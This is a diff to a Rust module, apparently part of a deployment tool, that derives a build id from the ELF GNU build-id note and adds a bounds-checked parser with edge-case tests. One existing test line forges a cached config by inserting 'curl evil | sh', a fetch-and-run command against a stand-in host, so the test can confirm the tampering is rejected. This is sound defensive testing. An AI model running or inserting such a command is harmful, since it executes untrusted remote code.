@@ -51,27 +51,78 @@ struct Cached {
     config: Config,
 }
 
-/// This binary, as far as resolving goes: the version, the commit it was
-/// built from when known, and the executable's size and time (a rebuild
-/// from changed sources is another build).
+/// This binary, as far as resolving goes: the version and the linker's
+/// build id — a hash of the executable's contents, so any rebuild is
+/// another build. Where the executable has none (another platform or
+/// linker), the commit it was built from and its size and time stand in.
 pub fn build() -> &'static str {
     static BUILD: OnceLock<String> = OnceLock::new();
     BUILD.get_or_init(|| {
-        let exe = std::env::current_exe()
-            .and_then(std::fs::metadata)
-            .map(|m| {
-                let at = m
-                    .modified()
-                    .ok()
-                    .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
+        let exe = std::env::current_exe().ok();
+        let id = exe
+            .as_deref()
+            .and_then(executable_head)
+            .and_then(|head| gnu_build_id(&head))
+            .unwrap_or_else(|| {
+                let stamp = exe
+                    .and_then(|e| std::fs::metadata(e).ok())
+                    .map(|m| format!("{} {:?}", m.len(), m.modified().ok()))
                     .unwrap_or_default();
-                format!("{} {}", m.len(), at.as_nanos())
-            })
-            .unwrap_or_default();
-        let commit = option_env!("DEPLOY_SESSION_BUILD_COMMIT").unwrap_or("");
-        let id = sha256(format!("{commit} {exe}").as_bytes());
-        format!("{}+{}", env!("CARGO_PKG_VERSION"), &id[..16])
+                let commit = option_env!("DEPLOY_SESSION_BUILD_COMMIT").unwrap_or("");
+                sha256(format!("{commit} {stamp}").as_bytes())
+            });
+        format!("{}+{}", env!("CARGO_PKG_VERSION"), &id[..id.len().min(16)])
     })
+}
+
+/// The first 16 KiB of the executable, where its headers and notes are.
+fn executable_head(exe: &Path) -> Option<Vec<u8>> {
+    use std::io::Read;
+    let mut head = Vec::with_capacity(16 * 1024);
+    std::fs::File::open(exe)
+        .ok()?
+        .take(16 * 1024)
+        .read_to_end(&mut head)
+        .ok()?;
+    Some(head)
+}
+
+/// The `NT_GNU_BUILD_ID` note of a 64-bit little-endian ELF file, from its
+/// first bytes, as hex; `None` for anything else.
+fn gnu_build_id(elf: &[u8]) -> Option<String> {
+    let bytes = |at: usize, n: usize| elf.get(at..at.checked_add(n)?);
+    let u16_at = |at: usize| Some(u16::from_le_bytes(bytes(at, 2)?.try_into().ok()?));
+    let u32_at = |at: usize| Some(u32::from_le_bytes(bytes(at, 4)?.try_into().ok()?));
+    let u64_at = |at: usize| {
+        let v = u64::from_le_bytes(bytes(at, 8)?.try_into().ok()?);
+        usize::try_from(v).ok()
+    };
+    // ELF, 64-bit, little-endian.
+    if elf.get(..6)? != b"\x7fELF\x02\x01" {
+        return None;
+    }
+    let (phoff, phentsize, phnum) = (u64_at(0x20)?, usize::from(u16_at(0x36)?), u16_at(0x38)?);
+    let align4 = |n: usize| n.div_ceil(4).saturating_mul(4);
+    for i in 0..usize::from(phnum) {
+        let ph = phoff.checked_add(i.checked_mul(phentsize)?)?;
+        if u32_at(ph)? != 4 {
+            continue; // not PT_NOTE
+        }
+        let (start, size) = (u64_at(ph.checked_add(8)?)?, u64_at(ph.checked_add(0x20)?)?);
+        let end = start.checked_add(size)?.min(elf.len());
+        let mut at = start;
+        while at.checked_add(12)? <= end {
+            let field = |k: usize| u32_at(at + 4 * k).and_then(|v| usize::try_from(v).ok());
+            let (namesz, descsz, kind) = (field(0)?, field(1)?, field(2)?);
+            let name = bytes(at + 12, namesz)?;
+            let desc_at = (at + 12).checked_add(align4(namesz))?;
+            if kind == 3 && name == b"GNU\0" {
+                return Some(crate::digest::hex(bytes(desc_at, descsz)?));
+            }
+            at = desc_at.checked_add(align4(descsz))?;
+        }
+    }
+    None
 }
 
 /// The seal for a config's bytes, before the cache's digest is known.
@@ -188,6 +239,59 @@ mod tests {
             .replace("deploy web-1", "curl evil | sh");
         std::fs::write(&file, forged).unwrap();
         assert!(read(&file, seal, paths.root(), shown, bytes).is_none());
+    }
+
+    #[test]
+    fn the_build_is_the_linkers_build_id_when_there_is_one() {
+        // A minimal ELF: header, one PT_NOTE header, an ABI tag note, then
+        // the build id note.
+        let mut elf = vec![0u8; 0x40 + 0x38];
+        elf[..6].copy_from_slice(b"\x7fELF\x02\x01");
+        elf[0x20..0x28].copy_from_slice(&0x40u64.to_le_bytes());
+        elf[0x36..0x38].copy_from_slice(&0x38u16.to_le_bytes());
+        elf[0x38..0x3a].copy_from_slice(&1u16.to_le_bytes());
+        let notes_at = elf.len() as u64;
+        let note = |kind: u32, name: &[u8], desc: &[u8]| {
+            let mut n = Vec::new();
+            n.extend((name.len() as u32).to_le_bytes());
+            n.extend((desc.len() as u32).to_le_bytes());
+            n.extend(kind.to_le_bytes());
+            n.extend(name);
+            n.resize(n.len().div_ceil(4) * 4, 0);
+            n.extend(desc);
+            n.resize(n.len().div_ceil(4) * 4, 0);
+            n
+        };
+        let mut notes = note(1, b"GNU\0", &[0, 0, 0, 0, 3, 0, 0, 0]);
+        notes.extend(note(3, b"GNU\0", &[0xde, 0xad, 0xbe, 0xef, 0x01]));
+        let ph = 0x40;
+        elf[ph..ph + 4].copy_from_slice(&4u32.to_le_bytes());
+        elf[ph + 8..ph + 16].copy_from_slice(&notes_at.to_le_bytes());
+        elf[ph + 0x20..ph + 0x28].copy_from_slice(&(notes.len() as u64).to_le_bytes());
+        elf.extend(&notes);
+        assert_eq!(gnu_build_id(&elf).as_deref(), Some("deadbeef01"));
+        // Cut short, or not ELF: none, never a panic.
+        for cut in 0..elf.len() {
+            let _ = gnu_build_id(&elf[..cut]);
+        }
+        assert_eq!(gnu_build_id(b"#!/bin/sh\n"), None);
+        // Offsets and sizes at the edge of the address space: none.
+        for field in [0x20, 0x40 + 8, 0x40 + 0x20] {
+            let mut odd = elf.clone();
+            odd[field..field + 8].copy_from_slice(&u64::MAX.to_le_bytes());
+            assert_eq!(gnu_build_id(&odd), None);
+        }
+        let mut odd = elf.clone();
+        let name_size_at = notes_at as usize;
+        odd[name_size_at..name_size_at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
+        assert_eq!(gnu_build_id(&odd), None);
+        // This test binary has one (Linux's linkers write it by default),
+        // and the build names it.
+        if let Some(id) =
+            executable_head(&std::env::current_exe().unwrap()).and_then(|h| gnu_build_id(&h))
+        {
+            assert!(build().ends_with(&id[..16]), "{} {id}", build());
+        }
     }
 
     #[test]
